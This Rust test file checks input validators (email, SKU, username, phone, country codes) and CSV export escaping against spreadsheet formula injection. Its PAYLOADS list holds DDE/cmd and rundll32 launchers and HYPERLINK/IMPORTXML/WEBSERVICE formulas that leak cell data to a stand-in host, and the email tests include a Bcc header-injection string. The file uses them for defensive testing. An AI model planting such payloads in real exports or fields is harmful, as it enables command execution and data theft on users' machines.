//! Tests of texts that have a shape.

use super::*;
use crate::domain::fault::FaultKind;
use proptest::prelude::*;

fn kind<T: std::fmt::Debug>(read: Result<T, Bad>) -> FaultKind {
    read.unwrap_err().kind
}

#[test]
fn an_address_keeps_its_case_and_compares_without() {
    let email = Email::parse("  Ann.Smith+till@Example.COM ").unwrap();
    assert_eq!(email.as_str(), "Ann.Smith+till@Example.COM");
    assert_eq!(email.folded(), "ann.smith+till@example.com");
    assert_eq!(email.local_part(), "Ann.Smith+till");
    assert_eq!(
        serde_json::to_string(&email).unwrap(),
        "\"Ann.Smith+till@Example.COM\""
    );
    for good in [
        "a@b.c",
        "root@localhost",
        "jörg@müller.example",
        "o'brien@x-y.example",
        &format!("a@{}.example", "b".repeat(244)),
    ] {
        assert!(Email::parse(good).is_ok(), "{good}");
    }
}

#[test]
fn what_is_no_address_is_refused() {
    assert_eq!(kind(Email::parse(" ")), FaultKind::Missing);
    for bad in [
        "a",
        "a@",
        "@b.c",
        "a@b",
        "a@@b.c",
        "a@b@c.d",
        "a b@c.d",
        "a@b c.d",
        "a@b..c",
        "a@.b.c",
        "a@b.c.",
        "a@-b.c",
        "a@b-.c",
        "a\u{7}@b.c",
        "a@b.c\nBcc: x@y.z",
        "<a@b.c>",
        "a,b@c.d",
        "a;b@c.d",
        "\"a\"@b.c",
        "a\u{200B}b@c.d",
        "a\u{202E}b@c.d",
        "a@b_c.d",
        "a@[1.2.3.4]",
        "a\u{A0}b@c.d",
        &format!("a@{}.example", "b".repeat(245)),
    ] {
        assert_eq!(kind(Email::parse(bad)), FaultKind::Invalid, "{bad:?}");
    }
}

#[test]
fn skus_and_usernames_are_ascii_words() {
    for good in [
        "85123A",
        "85123a",
        "gift_0001_10",
        "A.b-c_1",
        "22423",
        &"x".repeat(64),
    ] {
        assert_eq!(Sku::parse(good).unwrap().as_str(), good);
    }
    assert_eq!(Sku::parse(" 22423 ").unwrap().into_string(), "22423");
    for bad in ["a b", "a/b", "é", "a\0", "a,b", "=1+1", &"x".repeat(65)] {
        assert_eq!(kind(Sku::parse(bad)), FaultKind::Invalid, "{bad}");
    }
    assert_eq!(kind(Sku::parse("  ")), FaultKind::Missing);
    assert_eq!(Username::parse("Ann.S_m-1").unwrap().folded(), "ann.s_m-1");
    for bad in ["ab", "a b c", "a@b.c", "änne", &"x".repeat(51)] {
        assert_eq!(kind(Username::parse(bad)), FaultKind::Invalid, "{bad}");
    }
    assert_eq!(kind(Username::parse("")), FaultKind::Missing);
}

#[test]
fn a_phone_number_is_8_to_15_digits() {
    for good in [
        "+441632960961",
        "441632960961",
        "12345678",
        "+123456789012345",
        " +4915112345678 ",
    ] {
        assert_eq!(Phone::parse(good).unwrap().as_str(), good.trim());
    }
    for bad in [
        "1234567",
        "+1234567890123456",
        "01632960961",
        "+0123456789",
        "++12345678",
        "12 345 678",
        "1234567x",
        "+",
        "١٢٣٤٥٦٧٨",
    ] {
        assert_eq!(kind(Phone::parse(bad)), FaultKind::Invalid, "{bad}");
    }
    assert_eq!(kind(Phone::parse("")), FaultKind::Missing);
}

#[test]
fn lines_and_paragraphs_have_their_limits() {
    assert_eq!(line("  Ann Smith ", 1, 9).unwrap(), "Ann Smith");
    assert_eq!(line("日本語", 3, 3).unwrap(), "日本語");
    assert_eq!(line(" ", 0, 9).unwrap(), "");
    assert_eq!(kind(line(" \t\n", 1, 9)), FaultKind::Missing);
    for (bad, min, max) in [
        ("a\nb", 0, 9),
        ("a\tb", 0, 9),
        ("a\0b", 0, 9),
        ("a\u{85}b", 0, 9),
        ("a\u{2028}b", 0, 9),
        ("abcd", 0, 3),
        ("ab", 3, 9),
    ] {
        assert_eq!(kind(line(bad, min, max)), FaultKind::Invalid, "{bad:?}");
    }
    assert_eq!(paragraph(" a\r\n\tb\rc\n", 20).unwrap(), "a\n\tb\nc");
    assert_eq!(paragraph("", 20).unwrap(), "");
    assert_eq!(kind(paragraph("a\u{1b}[31m", 20)), FaultKind::Invalid);
    assert_eq!(kind(paragraph("abcd", 3)), FaultKind::Invalid);
}

#[test]
fn country_codes_are_the_assigned_ones() {
    assert_eq!(CountryCode::parse(" gb ").unwrap().as_str(), "GB");
    let all: Vec<_> = CountryCode::all().collect();
    assert_eq!(all.len(), 249);
    assert!(all.is_sorted());
    assert!(
        all.iter()
            .all(|code| CountryCode::parse(code.as_str()) == Ok(*code))
    );
    for bad in ["UK", "EU", "XK", "ZZ", "G", "GBR", "é", "A1"] {
        assert_eq!(kind(CountryCode::parse(bad)), FaultKind::Invalid, "{bad}");
    }
    assert_eq!(kind(CountryCode::parse("")), FaultKind::Missing);
    assert_eq!(serde_json::to_string(&all[0]).unwrap(), "\"AD\"");
}

const PAYLOADS: [&str; 30] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example?leak=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\t@A1",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\0",
    "=\"a\"\"b\"",
    "=1,=2",
    "=1\n=2",
    "+44,1632",
    "-5.00",
    "@user",
    "=A1&\"\r\n\"",
    "--1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
];

/// WEB-07
#[test]
fn thirty_payloads_are_no_formulas() {
    for payload in PAYLOADS {
        let row = format!("{},{}\r\n", csv_cell(payload), csv_cell("end"));
        let cells = read_back(&row);
        assert_eq!(
            cells,
            [vec![format!("'{payload}"), "end".to_owned()]],
            "{payload:?}"
        );
    }
}

#[test]
fn plain_cells_are_left_alone() {
    for plain in ["", "WHITE HANGING HEART", "a=b", "a-b", " =1", "5.00", "'=1"] {
        assert!(
            matches!(csv_cell(plain), Cow::Borrowed(cell) if cell == plain),
            "{plain}"
        );
    }
    assert_eq!(csv_cell("a,b"), "\"a,b\"");
    assert_eq!(csv_cell("6\" plate"), "\"6\"\" plate\"");
}

fn read_back(file: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new();
    let mut reader = reader.has_headers(false).from_reader(file.as_bytes());
    let rows = reader
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(10_000))]

    /// WEB-07
    #[test]
    fn rows_come_back_without_formulas(
        cells in prop::collection::vec("[=+\\-@\t\0\r\n\",;' a-c5é]{0,8}|\\PC{0,12}", 2..6)
    ) {
        let row: Vec<_> = cells.iter().map(|cell| csv_cell(cell)).collect();
        let read = read_back(&format!("{}\r\n", row.join(",")));
        prop_assert_eq!(read.len(), 1);
        prop_assert_eq!(read[0].len(), cells.len());
        for (read, sent) in read[0].iter().zip(&cells) {
            prop_assert!(!read.starts_with(['=', '+', '-', '@', '\t', '\0', '\r']));
            prop_assert_eq!(read.strip_prefix('\'').filter(|_| !sent.starts_with('\'')).unwrap_or(read), sent);
        }
    }

    #[test]
    fn no_text_panics(text in ".{0,40}") {
        let _ = (Email::parse(&text), Sku::parse(&text), Phone::parse(&text), CountryCode::parse(&text));
        let _ = (line(&text, 1, 10), paragraph(&text, 10), Username::parse(&text));
    }
}
